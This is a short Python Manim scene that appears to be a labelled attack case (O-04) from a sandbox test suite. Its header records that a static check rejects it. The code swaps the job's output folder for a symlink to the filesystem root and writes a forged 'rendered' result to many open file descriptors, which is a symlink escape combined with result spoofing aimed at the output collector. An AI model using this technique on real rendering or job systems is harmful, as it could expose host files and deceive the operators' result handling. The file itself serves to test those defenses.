# attack: O-04
# what: Swap the output folder for a link.
# layer: collector
# static: rejected
# class: OUTPUT_INVALID OUTPUT_MISSING
import os
import time

from manim import *


def finish():
    answer = '{"type":"rendered","file":"chunk.mp4","poster":"poster.jpg","preview":null}'
    for number in range(3, 64):
        try:
            os.write(number, answer.encode() + b"\n")
        except OSError:
            continue
    time.sleep(5)


class Attack(Scene):
    def construct(self):
        os.rename("/job/out", "/job/was")
        os.symlink("/", "/job/out")
        finish()
